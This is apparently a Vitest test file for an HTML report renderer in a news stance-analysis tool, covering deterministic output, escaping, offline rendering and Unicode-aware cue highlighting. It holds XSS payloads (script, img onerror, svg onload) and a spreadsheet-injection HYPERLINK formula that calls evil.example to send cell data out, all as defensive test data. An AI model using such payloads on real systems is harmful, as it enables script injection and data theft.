import { afterEach, describe, expect, it } from 'vitest';
import { buildReport, renderHtmlReport } from '../../stages/report/index.ts';
import { cueRanges, highlightCue } from '../../stages/report/evidence.ts';
import { ANKARA_BACKS_US, FIDAN_US_INITIATIVE, HOSTILE, RECORDS, reportInput, runInfo } from './fixtures.ts';

const render = (records = RECORDS, run = runInfo()) =>
  renderHtmlReport(buildReport({ ...reportInput(run), records }), records);

describe('report.html', () => {
  const zone = process.env.TZ;
  afterEach(() => {
    if (zone === undefined) delete process.env.TZ;
    else process.env.TZ = zone;
  });

  it('is byte-identical for the same input, whatever the run times, record order or what was drawn before', async () => {
    const first = await render();
    await render([HOSTILE]); // moves vega's process-wide gradient and clip counters
    const second = await render([...RECORDS].reverse(), runInfo('2031-01-01T00:00:00.000Z', 99));
    expect(second).toBe(first);
  });

  it('is byte-identical in every time zone (dates are drawn in UTC)', async () => {
    process.env.TZ = 'Pacific/Honolulu';
    const west = await render();
    process.env.TZ = 'Asia/Tokyo';
    const east = await render();
    expect(east).toBe(west);
    expect(west).toContain('2025-02-24');
  });

  it('escapes a <script> in a sentence: the only script on the page is its own search', async () => {
    const html = await render();
    expect(html.match(/<script/g)).toHaveLength(1);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1,&quot;Russia <mark>condemns</mark> Ukraine&quot;)');
    expect(html).toContain('not UTF-8 &lt;b&gt;bytes&lt;/b&gt;');
  });

  it('lists each input error with its file, line and code', async () => {
    const html = await render();
    expect(html).toContain('<th>File</th><th>Line</th><th>Document</th><th>Code</th><th>Reason</th>');
    expect(html).toContain('<td class="doc">input/broken.txt</td><td class="nowrap"></td><td class="doc"></td><td class="nowrap">INVALID_UTF8</td>');
    expect(html).toContain('<td class="doc">input/feed.jsonl</td><td class="nowrap">7</td><td class="doc"></td><td class="nowrap">INVALID_FIELD</td>');
  });

  it('escapes hostile actor names in the charts as well as in the table', async () => {
    const evil = { id: 'X', name: '<img src=x onerror=alert(1)>', country: null, role: null };
    const html = await render([{ ...ANKARA_BACKS_US, source: evil, target: { ...evil, id: 'Y', name: '"><svg onload=alert(2)>' } }]);
    expect(html).not.toMatch(/<img|<svg onload|onerror=alert\(1\)>/);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('needs no network: no external URL in any src, href or CSS, and a policy that forbids fetching', async () => {
    const html = await render();
    expect(html).not.toMatch(/(src|href)=["']?(https?:)?\/\//i);
    expect(html).not.toMatch(/@import|url\((?!#)/i);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none';`);
  });

  it('draws the three charts as inline SVG, with per-chart ids', async () => {
    const html = await render();
    for (const id of ['chart-actors', 'chart-pairs', 'chart-timeline']) {
      expect(html).toMatch(new RegExp(`<figure id="${id}"><svg [^>]*class="marks"`));
    }
    const ids = [...html.matchAll(/\sid="([^"]+)"/g)].map((m) => m[1]);
    expect(new Set(ids).size).toBe(ids.length);
    expect(html).toContain('id="chart-pairs-1"'); // the net score legend's gradient
  });

  it('leaves the timeline out when no document has a date, and says so when there is nothing to chart', async () => {
    const undated = RECORDS.map((r) => ({ ...r, doc_date: null }));
    expect(await render(undated)).not.toContain('id="timeline"');
    const empty = await render([]);
    expect(empty).toContain('<p class="empty">No stance records.</p>');
    expect(empty).toContain('<output id="evidence-count" for="evidence-search">0 records</output>');
  });

  it('does not show run times', async () => {
    const html = await render(RECORDS, runInfo('2025-03-04T09:00:00.000Z'));
    expect(html).not.toContain('2025-03-04');
  });
});

describe('cue highlighting', () => {
  it('marks the cue in its sentence, ignoring case', () => {
    expect(highlightCue('Ankara Backs a United States initiative', 'backs')).toBe('Ankara <mark>Backs</mark> a United States initiative');
  });

  it('marks a multi-word cue whole', () => {
    expect(highlightCue(FIDAN_US_INITIATIVE.sentence, FIDAN_US_INITIATIVE.cue)).toContain('&quot;We <mark>attach great importance</mark> to the new U.S. initiative');
  });

  it('marks a lemma cue on the inflected word, and each word of a split cue', () => {
    expect(highlightCue('Ankara backed the plan.', 'back')).toBe('Ankara <mark>backed</mark> the plan.');
    expect(highlightCue('Türkiye is ready to host the talks.', 'ready host')).toBe('Türkiye is <mark>ready</mark> to <mark>host</mark> the talks.');
  });

  it('marks nothing when the cue is not in the sentence, and keeps offsets right after İ', () => {
    expect(highlightCue('Nothing <here>', 'condemn')).toBe('Nothing &lt;here&gt;');
    expect(cueRanges('İİ condemns', 'condemns')).toEqual([[3, 11]]);
  });

  it('matches case as the regex flags iu do, and words by letters and digits in any script', () => {
    expect(cueRanges('The \u212Aremlin ba\u017Fked it', 'kremlin')).toEqual([[4, 11]]);
    expect(cueRanges('The Kremlin ba\u017Fked it', 'basked')).toEqual([[12, 18]]);
    expect(cueRanges('éback, then back', 'back')).toEqual([[12, 16]]);
    expect(cueRanges('\u{1D400}back, then backé\u{1D400}s', 'back')).toEqual([[13, 21]]);
    expect(cueRanges('2back, then back2', 'back')).toEqual([[12, 17]]);
    // U+0345 is a mark, but folds to ι: under the i flag the regexes took it for a letter.
    expect(cueRanges('\u1F00\u0345back, then back', 'back')).toEqual([[13, 17]]);
    expect(cueRanges('backs\u0345x', 'back')).toEqual([[0, 7]]);
  });

  it('finds the same ranges as the regular expressions it stands in for, on random text', () => {
    // The definition the character loop replaced: the whole cue at a word start, else anywhere, else word by word.
    const escape = (t: string) => t.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    const atStart = (t: string) => new RegExp(`(?<![\\p{L}\\p{N}])${escape(t)}[\\p{L}\\p{N}]*`, 'iu');
    const reference = (sentence: string, cue: string): [number, number][] => {
      const trimmed = cue.trim();
      if (!trimmed) return [];
      const whole = atStart(trimmed).exec(sentence) ?? new RegExp(escape(trimmed), 'iu').exec(sentence);
      if (whole) return [[whole.index, whole.index + whole[0].length]];
      const ranges: [number, number][] = [];
      for (const word of trimmed.split(/\s+/u)) {
        const found = atStart(word).exec(sentence);
        if (found) ranges.push([found.index, found.index + found[0].length]);
      }
      ranges.sort((a, b) => a[0] - b[0] || b[1] - a[1]);
      return ranges.filter((r, i) => i === 0 || r[0] >= ranges[i - 1]![1]);
    };
    const alphabet = ['a', 'A', 'b', 'k', 'K', '\u212A', 's', 'S', '\u017F', 'é', 'É', '1', ' ', ' ', '-', "'", '.', '\u{1D400}', '\u0301', '\u0345', 'İ', 'ı', 'ß'];
    const cueAlphabet = ['a', 'b', 'k', 's', 'K', 'S', ' ', '-', "'", '1'];
    let seed = 42;
    const next = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed % n);
    const pick = (from: string[], length: number) => Array.from({ length }, () => from[next(from.length)]).join('');
    let compared = 0;
    for (let i = 0; i < 20_000; i++) {
      const sentence = pick(alphabet, 1 + next(30));
      const cue = pick(cueAlphabet, 1 + next(4));
      expect(cueRanges(sentence, cue), `${JSON.stringify(sentence)} / ${JSON.stringify(cue)}`).toEqual(reference(sentence, cue));
      if (reference(sentence, cue).length > 0) compared++;
    }
    expect(compared).toBeGreaterThan(2_000);
  });
});
